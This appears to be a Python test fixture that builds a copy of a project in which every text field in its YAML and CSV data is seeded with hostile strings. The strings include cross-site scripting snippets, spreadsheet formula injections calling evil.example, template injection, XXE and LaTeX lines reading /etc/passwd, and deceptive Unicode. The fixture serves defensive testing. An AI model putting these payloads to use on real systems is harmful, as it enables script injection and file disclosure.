"""A checkout whose every text is hostile: what a format obeyed would set ``window.hit`` or ask evil.example."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).parents[1]
PRODUCT = (1337, 7331)  # what a template would multiply
RESULT = str(PRODUCT[0] * PRODUCT[1])
TIMES = "{}*{}".format(*PRODUCT)
DIRECTION = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
UNSEEN = "\u00ad\u200b\u200c\u200d\u2060\ufeff"
LONG = "Ư" * 400
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x","x")', "+cmd|' /C calc'!A", "-cmd|' /C calc'!A", "@SUM(A:A)", "\t=A:A",
    '＝HYPERLINK("http://evil.example","x")', "＋A:A", "－A:A", "＠SUM(A:A)", '=IMPORTXML("http://evil.example","//a")',
)  # fmt: skip
BEGINNINGS = (*FORMULAS, f"\u202e{DIRECTION}\u202e", f"A{UNSEEN}", "# ", "- ", "> ", "| ", "```", "---\n", "''", "")
PIECES = (
    "<script>window.hit=true</script>", '"><img src=x onerror="window.hit=true">',
    "</title></style></textarea></svg><svg onload='window.hit=true'>", '<a href="javascript:window.hit=true">x</a>',
    "[x](javascript:window.hit=true) ![y](http://evil.example/y.png) <http://evil.example>",
    "<iframe srcdoc='<script>parent.hit=true</script>'></iframe><base href=//evil.example/><meta http-equiv=refresh>",
    f"{{{{{TIMES}}}}} {{% include '/etc/passwd' %}} {{{{ cycler.__init__ }}}}",
    f"${{{TIMES}}} #{{{TIMES}}} {{0.__class__}}",
    '#panic("x") #import "x.typ": * #read("/etc/passwd") #let x = none', f"#({TIMES}) $ sum #({TIMES}) $ `raw` #sys",
    ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; <![CDATA[', "</w:t></a:t></t></text><w:p/>&lt;b&gt;",
    r"\input{/etc/passwd} \write{ls} %s %(x)s \n \u0041", f"a{DIRECTION}b\u202e%14,85", f"раураl{UNSEEN}.соm",
    LONG, "javascript:window.hit=true", "data:text/html,<script>window.hit=true</script>", "ế̴̖̣́̈" * 12, "'\"`;--",
)  # fmt: skip
FREE = {
    "details": ("name_en", "name_vi"), "tasks": ("list", "task_en", "task_vi"), "targets": ("number",),
    "commitments": ("commitment_en", "commitment_vi", "owner", "status"),
}  # fmt: skip
_KEPT = ("doubtful:", "start of the count not printed", "period not printed", "read in:")  # what a note begins with
_FREE = {"name", "title", "definition", "why", "asks", "method", "use", "short", "text", "description", "issuer",
         "notes", "what", "symbol"}  # fmt: skip
_INNER = {"en", "vi", "one", "other"}  # what a text is in


class Evil:
    """Hostile words, another one each time, always in the same order."""

    def __init__(self) -> None:
        self._at = count()

    def begun(self, text: str) -> str:
        """Return a text with something hostile at its beginning and something else in it."""
        at = next(self._at)
        return f"{BEGINNINGS[at % len(BEGINNINGS)]}{text} {self.piece(at)}"

    def piece(self, at: int | None = None) -> str:
        at = next(self._at) if at is None else at
        return PIECES[at % len(PIECES)]

    def printed(self) -> str:
        """Return something without digits that may stand behind a printed figure."""
        pieces = iter(self.piece, None)
        return next(one for one in pieces if not any(c.isdigit() for c in one) and "%" not in one)


def checkout(place: Path) -> Path:
    """Return a copy of package, data and notebooks in which every text is hostile."""
    evil = Evil()
    leave = shutil.ignore_patterns("__pycache__", ".ipynb_checkpoints")
    for name in ("dxlib", "data", "notebooks"):
        shutil.copytree(ROOT / name, place / name, ignore=leave)
    for file in sorted((place / "dxlib" / "indicators").glob("*.yml")):
        _yaml(file, evil)
    _yaml(place / "notebooks" / "suite.yml", evil)
    for file in sorted((place / "data").glob("*.yml")):
        _yaml(file, evil)
    _csv(place / "data" / "crosswalk.csv", ("note",), evil, printed=False)
    for folder in sorted((place / "data" / "reports").iterdir()):
        _yaml(folder / "report.yml", evil)
        for file in sorted(folder.glob("*.csv")):
            _csv(file, FREE.get(file.stem, ()), evil, printed=file.stem not in ("places", "uncounted"))
    return place


def _csv(file: Path, free: tuple[str, ...], evil: Evil, printed: bool) -> None:
    with file.open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    for row in rows:
        for name in free:
            if row[name]:
                row[name] = evil.begun(row[name])
        if row.get("note"):
            kept = row["note"].startswith(_KEPT)
            row["note"] = f"{row['note']} {evil.piece()}" if kept else evil.begun(row["note"])
        if printed and row.get("as_printed"):
            row["as_printed"] += f" {evil.printed()}"
    with file.open("w", encoding="utf-8", newline="") as opened:
        writer = csv.DictWriter(opened, rows[0] if rows else [], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def _yaml(file: Path, evil: Evil) -> None:
    content = yaml.safe_load(file.read_text(encoding="utf-8"))
    file.write_text(yaml.safe_dump(_worse(content, "", evil.begun), allow_unicode=True, sort_keys=False), "utf-8")


def _worse(part: Any, key: str, begun: Callable[[str], str]) -> Any:
    if isinstance(part, dict):
        return {name: _worse(value, key if name in _INNER else name, begun) for name, value in part.items()}
    if isinstance(part, list):
        return [_worse(value, key, begun) for value in part]
    return begun(part) if part and isinstance(part, str) and key in _FREE else part


def files(folder: Path) -> Iterator[Path]:
    """Yield the files under a folder."""
    return (file for file in sorted(folder.rglob("*")) if file.is_file())
